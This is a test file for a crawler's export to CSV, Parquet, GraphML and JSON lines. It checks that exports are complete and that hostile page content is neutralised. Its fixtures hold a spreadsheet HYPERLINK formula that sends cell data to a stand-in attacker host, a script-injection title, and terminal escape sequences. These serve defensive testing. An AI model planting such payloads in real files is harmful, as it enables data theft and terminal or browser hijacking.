"""A crawl as tables and as a graph: complete, valid, and harmless to programs that open them."""

from __future__ import annotations

import csv
import io
import json
import os
import resource
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path
from tempfile import TemporaryDirectory

import numpy as np
import pyarrow.parquet as parquet
import pytest
from hypothesis import given
from hypothesis import strategies as st
from jsonschema import Draft202012Validator
from lxml import etree
from scrapy.exceptions import UsageError
from support.crawling import ROOT
from support.invoking import invoke
from support.items import a_crawl, add, an_item

from crawlproject.commands.export import ExportCommand
from crawlproject.errors import BadCrawlDir, BadInput, StorageFailed
from crawlproject.exporting import tables
from crawlproject.exporting.files import FORMATS, export_file
from crawlproject.exporting.selection import EVERYTHING, Selection, read_items
from crawlproject.exporting.tables import write_csv, write_graphml, write_parquet
from crawlproject.exporting.whole import written_whole
from crawlproject.pages.text.printable import printable
from crawlproject.storage.page_files import item_schema

NAMES = list(item_schema()["properties"])
COLUMNS = ["fetched_at" if name == "at" else name for name in NAMES]
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'
GRAPH = "{http://graphml.graphdrawing.org/xmlns}"


@pytest.fixture
def crawl(tmp_path: Path) -> Path:
    folder = a_crawl(
        tmp_path / "crawl",
        an_item(0, 'Coral, "reefs"\nand more', relevance=0.5, parts={"anchor": 0.25}, published="2024-03-09"),
        an_item(1, "<b>&amp;</b>\0\x0b\ufffe", title="]]><script>alert(1)</script>\x1b", relevance=0.25),
        an_item(2, "steam", parent="http://a.example/0", anchor="@SUM(A1)", title=EVIL),
        an_item(3, "copy", relevance=0.5, duplicate_of="http://a.example/0"),
    )
    links = [
        ("0", "1", "to <one> & \x02"),
        ("0", "1", "again"),
        ("0", "9", "not fetched"),
        ("2", "0", "back"),
        ("3", "0", "c"),
        ("0", "1", "when it was visited again"),
        ("0", "2", "new then"),
        ("0", "2", "twice"),
    ]
    with (folder / "links.jsonl").open("w") as file:
        for source, target, anchor in links:
            ends = {"source": f"http://a.example/{source}", "target": f"http://a.example/{target}"}
            file.write(json.dumps({**ends, "anchor": anchor, "context_score": 0.5}) + "\n")
    return folder


def exported(crawl: Path, kind: str, selection: Selection = EVERYTHING) -> Path:
    target = crawl.parent / f"out.{kind}"
    export_file(crawl, target, kind, selection, now=1_700_000_000.0)
    return target


def test_json_lines(crawl: Path) -> None:
    lines = [json.loads(line) for line in exported(crawl, "jsonl").read_text("utf-8").split("\n")[:-1]]
    assert lines == [json.loads(line) for line in (crawl / "items.jsonl").read_bytes().split(b"\n")[:-1]]
    validator = Draft202012Validator(item_schema())
    for line in lines:
        validator.validate({**line, "digest": "0" * 32})


def test_csv_holds_no_formulas(crawl: Path) -> None:
    rows = list(csv.DictReader(io.StringIO(exported(crawl, "csv").read_bytes().decode(), newline="")))
    assert list(rows[0]) == COLUMNS and len(rows) == 4
    assert rows[0]["text"] == 'Coral, "reefs"\nand more' and json.loads(rows[0]["parts"]) == {"anchor": 0.25}
    assert rows[0]["parent"] == "" and rows[0]["relevance"] == "0.5"
    assert (rows[2]["title"], rows[2]["anchor"]) == ("'" + EVIL, "'@SUM(A1)")
    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for value in row.values())


def test_parquet(crawl: Path) -> None:
    table = parquet.read_table(exported(crawl, "parquet"))
    assert table.column_names == COLUMNS and table.num_rows == 4
    first = table.slice(0, 1).to_pylist()[0]
    assert first["fetched_at"] == datetime(1970, 1, 1, 0, 16, 40, tzinfo=UTC) and first["parts"] == [("anchor", 0.25)]
    assert (first["parent"], first["depth"], first["published"]) == (None, 0, "2024-03-09")
    assert np.isclose(table["relevance"].to_numpy(), [0.5, 0.25, 0.0, 0.5]).all()


def test_parquet_of_several_files_is_one_data_set(crawl: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    whole = parquet.read_table(exported(crawl, "parquet"))
    for bytes_, rows in ((1, [1, 1, 1, 1]), (30, [2, 2]), (10**9, [4])):
        monkeypatch.setattr(tables, "PART_BYTES", bytes_)
        target = crawl.parent / f"pages{bytes_}"
        told = export_file(crawl, target, "parquet", EVERYTHING, now=0.0, parts=True)
        assert told == f"4 pages in {target}" and parquet.read_table(target).equals(whole)
        assert [parquet.read_metadata(path).num_rows for path in sorted(target.iterdir())] == rows
        with pytest.raises(BadInput, match="an empty folder"):
            export_file(crawl, target, "parquet", EVERYTHING, now=0.0, parts=True)
    monkeypatch.setattr(tables, "PART_BYTES", 50)
    for text, parts in (("reef of coral", 1), ("珊瑚礁の魚と珊瑚礁の海藻", 2)):  # 13 letters, of one byte and of three
        short = a_crawl(crawl.parent / text, *(an_item(number, text) for number in range(3)))
        export_file(short, crawl.parent / f"{text}.parts", "parquet", EVERYTHING, now=0.0, parts=True)
        assert len(list((crawl.parent / f"{text}.parts").iterdir())) == parts
    nothing = Selection(min_relevance=0.9)
    export_file(crawl, crawl.parent / "none", "parquet", nothing, now=0.0, parts=True)
    assert parquet.read_table(crawl.parent / "none").num_rows == 0, "a data set without pages has its columns"


def test_graphml(crawl: Path) -> None:
    tree = etree.parse(exported(crawl, "graphml"))
    titles = [node.findtext(f"{GRAPH}data[@key='n-title']") for node in tree.iter(f"{GRAPH}node")]
    assert titles == ["Page 0", "]]><script>alert(1)</script> ", EVIL, "Page 3"]
    ids = [node.get("id") for node in tree.iter(f"{GRAPH}node")]
    assert ids == [an_item(number, "")["md5"] for number in range(4)]
    edges = [(ids.index(edge.get("source")), ids.index(edge.get("target"))) for edge in tree.iter(f"{GRAPH}edge")]
    assert edges == [(0, 1), (2, 0), (3, 0), (0, 2)], "the first of several links, and none to a page that is not there"
    declared = {key.get("id") for key in tree.iter(f"{GRAPH}key")}
    assert {data.get("key") for data in tree.iter(f"{GRAPH}data")} <= declared


@given(st.lists(st.text(st.characters()), min_size=1, max_size=4))
def test_any_title_is_valid_xml(titles: list[str]) -> None:
    file = io.BytesIO()
    write_graphml((an_item(n, "", title=title) for n, title in enumerate(titles)), Path("/nowhere"), file)
    assert len(list(etree.fromstring(file.getvalue()).iter(f"{GRAPH}node"))) == len(titles)


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), max_size=4))
def test_any_title_comes_back_from_csv_without_its_controls(titles: list[str]) -> None:
    file = io.BytesIO()
    write_csv((an_item(n, "", title=title) for n, title in enumerate(titles)), file)
    rows = list(csv.DictReader(io.StringIO(file.getvalue().decode(), newline="")))
    assert [row["title"].removeprefix("'") for row in rows] == [printable(title).removeprefix("'") for title in titles]


@pytest.mark.parametrize("kind", ["csv", "graphml", "jsonl"])
def test_no_table_steers_a_terminal(tmp_path: Path, kind: str) -> None:
    evil = "a\x1b]0;renamed\x07b\x9b31mc\rd"
    names = {"title": evil, "anchor": f"\x1b={evil}", "language": evil}
    folder = a_crawl(tmp_path / "crawl", an_item(0, evil, **names))
    export_file(folder, tmp_path / "out", kind, EVERYTHING, now=0.0)
    text = (tmp_path / "out").read_text("utf-8")
    assert not set(text) & {"\x1b", "\x07"} and "renamed" in text
    if kind == "csv":
        row = next(csv.DictReader(io.StringIO(text, newline="")))
        assert row["anchor"].startswith("'="), "a formula behind a control character is one"
    if kind != "jsonl":  # JSON strings may contain it, and no terminal reads them
        assert "\x9b" not in text


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), max_size=4))
def test_any_title_comes_back_from_parquet(titles: list[str]) -> None:
    file = io.BytesIO()
    assert write_parquet((an_item(n, "", title=title) for n, title in enumerate(titles)), file) == len(titles)
    assert parquet.read_table(file)["title"].to_pylist() == titles


@pytest.mark.parametrize("kind", ["jsonl", "csv", "parquet", "graphml"])
def test_selected_pages(crawl: Path, kind: str) -> None:
    def count(selection: Selection) -> int:
        path = exported(crawl, kind, selection)
        if kind == "parquet":
            return parquet.read_table(path).num_rows
        if kind == "graphml":
            return len(list(etree.parse(path).iter(f"{GRAPH}node")))
        return len(list(csv.reader(path.open(newline="")))) - 1 if kind == "csv" else path.read_bytes().count(b"\n")

    assert count(Selection()) == 3
    assert count(Selection(with_duplicates=True)) == 4
    assert count(Selection(min_relevance=0.5)) == 1
    assert count(Selection(0.5, with_duplicates=True)) == 2


# ------------------------------------------------------------ whole or not at all


@pytest.mark.parametrize("kind", [kind for kind in FORMATS if kind not in ("warc",)])
def test_a_damaged_crawl_leaves_no_file_and_the_old_one_as_it_was(crawl: Path, kind: str) -> None:
    target = crawl.parent / f"out.{kind}"
    target.write_text("before")
    with (crawl / "items.jsonl").open("a") as file:
        file.write("{oops\n")
    with pytest.raises(BadCrawlDir, match=r"items\.jsonl, line 5"):
        exported(crawl, kind)
    assert target.read_text() == "before"
    assert sorted(path.name for path in crawl.parent.iterdir()) == ["crawl", f"out.{kind}"]


def test_a_crawl_by_an_older_version_has_every_field(crawl: Path) -> None:
    old = {name: an_item(8, "old")[name] for name in NAMES[:14] if name != "text_main"}
    add(crawl, old)
    line = json.loads(exported(crawl, "jsonl").read_bytes().split(b"\n")[-2])
    assert list(line) == NAMES and (line["published"], line["parts"], line["spam"]) == ("", {}, 0.0)


def test_what_is_wrong_is_reported(crawl: Path, tmp_path: Path) -> None:
    with pytest.raises(BadCrawlDir, match=r"crawl\.json"):
        export_file(tmp_path, tmp_path / "x", "csv", EVERYTHING, now=0.0)
    with pytest.raises(BadInput, match="name of a file"):
        export_file(crawl, tmp_path, "csv", EVERYTHING, now=0.0)
    with pytest.raises(StorageFailed, match="cannot write"):
        export_file(crawl, Path(__file__) / "x", "csv", EVERYTHING, now=0.0)
    (crawl / "items.jsonl").unlink()
    with pytest.raises(BadCrawlDir, match="rehearsal"):
        export_file(crawl, tmp_path / "x", "csv", EVERYTHING, now=0.0)


def test_what_is_no_file_is_not_replaced(crawl: Path, tmp_path: Path) -> None:
    os.mkfifo(pipe := tmp_path / "pipe")
    for target in pipe, Path():
        with pytest.raises(BadInput, match="name of a"), written_whole(target):
            pass
    with pytest.raises(BadInput, match="name of a new file"):
        export_file(crawl, pipe, "csv", EVERYTHING, now=0.0)
    assert pipe.is_fifo()


def test_a_full_disk(crawl: Path) -> None:
    """The kernel limits the file to 4 KB."""
    add(crawl, *(an_item(number, "x" * 10_000) for number in range(20, 30)))
    program = (
        "import resource, signal, sys; from pathlib import Path\n"
        "from crawlproject.errors import StorageFailed; from crawlproject.exporting.files import export_file\n"
        "from crawlproject.exporting.selection import EVERYTHING\n"
        "signal.signal(signal.SIGXFSZ, signal.SIG_IGN); resource.setrlimit(resource.RLIMIT_FSIZE, (4096, 4096))\n"
        "for kind in sys.argv[2:]:\n"
        "    try: export_file(Path(sys.argv[1]), Path(sys.argv[1]).parent / kind, kind, EVERYTHING, now=0.0)\n"
        "    except StorageFailed as failed: print(kind, failed)\n"
    )
    kinds = ["csv", "graphml", "jsonl", "parquet"]
    add(crawl, *(an_item(number, "", title=str(number) * 999) for number in range(30, 40)))
    done = subprocess.run(
        [sys.executable, "-c", program, crawl, *kinds], cwd=ROOT, capture_output=True, text=True, check=False
    )
    reported = [line.split()[0] for line in done.stdout.splitlines()]
    assert set(reported) >= {"csv", "graphml", "jsonl"}, done.stderr
    assert not [path for path in crawl.parent.iterdir() if path.name.startswith(".")]


@pytest.fixture(scope="module")
def large_crawl(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """100 MB of text in 10,000 pages."""
    crawl = a_crawl(tmp_path_factory.mktemp("large"))
    line = json.dumps(an_item(0, "coral reef " * 900)).encode() + b"\n"
    with (crawl / "items.jsonl").open("wb") as file:
        for _ in range(10_000):
            file.write(line)
    return crawl


@pytest.mark.slow
@pytest.mark.parametrize("kind", ["csv", "graphml", "jsonl", "parquet"])
def test_memory_does_not_grow_with_the_crawl(large_crawl: Path, tmp_path: Path, kind: str) -> None:
    program = (
        "import resource, sys; from pathlib import Path\nfrom crawlproject.exporting.files import export_file\n"
        "from crawlproject.exporting.selection import EVERYTHING\n"
        "import pyarrow.parquet\nbefore = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss\n"
        "export_file(Path(sys.argv[1]), Path(sys.argv[2]), sys.argv[3], EVERYTHING, now=0.0)\n"
        "print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before)"
    )
    arguments = [sys.executable, "-c", program, str(large_crawl), str(tmp_path / "out"), kind]
    done = subprocess.run(arguments, cwd=ROOT, capture_output=True, text=True, check=True)
    grown = int(done.stdout) * (1 if sys.platform == "darwin" else 1024)
    assert grown < 80e6, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss


def test_the_command(crawl: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    def export(*arguments: object) -> int:
        return invoke(ExportCommand(), *arguments)

    assert export(crawl, "--to", "csv", tmp_path / "pages.csv", "--min-relevance", "0.25") == 0
    assert export(crawl, "--to", "graphml", tmp_path / "links.graphml", "--with-duplicates") == 0
    assert capsys.readouterr().out.splitlines() == [
        f"2 pages in {tmp_path / 'pages.csv'}",
        f"4 pages and 4 links in {tmp_path / 'links.graphml'}",
    ]
    for wrong in (("--to", "csv"), ("--to", "csv", "x", "--min-relevance", "2")):
        with pytest.raises(UsageError):
            export(crawl, *wrong)
    with pytest.raises(SystemExit):
        export(crawl, "--to", "xml", "x")
    assert export(tmp_path / "none", "--to", "csv", tmp_path / "x") == 2


def again(number: int, version: int, text: str = "", **fields: object) -> dict[str, object]:
    """A further line of a page."""
    return an_item(number, text, version=version, **fields)


@pytest.mark.parametrize("kind", ["jsonl", "csv", "parquet"])
def test_the_last_version_of_a_page_counts_unless_it_is_taken_back(crawl: Path, kind: str) -> None:
    add(crawl, again(1, 2, "newer", relevance=0.9), again(0, 1, state="gone"), again(1, 3, "newest", relevance=0.05))
    add(crawl, an_item(4, '"version":2,"state":"gone"}', relevance=0.5))
    if kind == "parquet":
        found = parquet.read_table(exported(crawl, kind)).select(["url", "text", "version"]).to_pylist()
    elif kind == "csv":
        found = list(csv.DictReader(io.StringIO(exported(crawl, kind).read_bytes().decode(), newline="")))
    else:
        found = [json.loads(line) for line in exported(crawl, kind).read_text("utf-8").split("\n")[:-1]]
    shown = [(row["url"][-1], row["text"], int(row["version"])) for row in found]
    assert shown == [("2", "steam", 1), ("3", "copy", 1), ("1", "newest", 3), ("4", '"version":2,"state":"gone"}', 1)]
    some = exported(crawl, "jsonl", Selection(0.1, with_duplicates=True)).read_text("utf-8").split("\n")[:-1]
    assert [json.loads(line)["url"][-1] for line in some] == ["3", "4"], "an earlier version is none to fall back on"


def test_nodes_of_the_graph_are_the_pages_that_are_there(crawl: Path) -> None:
    add(crawl, again(0, 1, state="moved"), again(2, 2, "steam engines"))
    root = etree.parse(exported(crawl, "graphml")).getroot()
    assert len(root.findall(f".//{GRAPH}node")) == 3


@given(st.lists(st.tuples(st.integers(0, 4), st.sampled_from(["", "", "gone", "retired"])), max_size=20))
def test_items_of_any_history(events: list[tuple[int, str]]) -> None:
    """The last line of each URL counts, if it has no state, as in a table whose rows each line replaces."""
    versions: dict[int, int] = {}
    there: dict[int, int] = {}
    with TemporaryDirectory() as place:
        folder = a_crawl(Path(place))
        for page, state in events:
            if versions.get(page) and page not in there:
                continue  # a withdrawn page does not come back
            there.pop(page, None)
            versions[page] = versions.get(page, 0) + (not state)
            if versions[page]:
                add(folder, an_item(page, "", version=versions[page], state=state))
                there |= {} if state else {page: versions[page]}
        found = [(int(item["url"][-1]), item["version"]) for item in read_items(folder)]
    assert found == list(there.items())
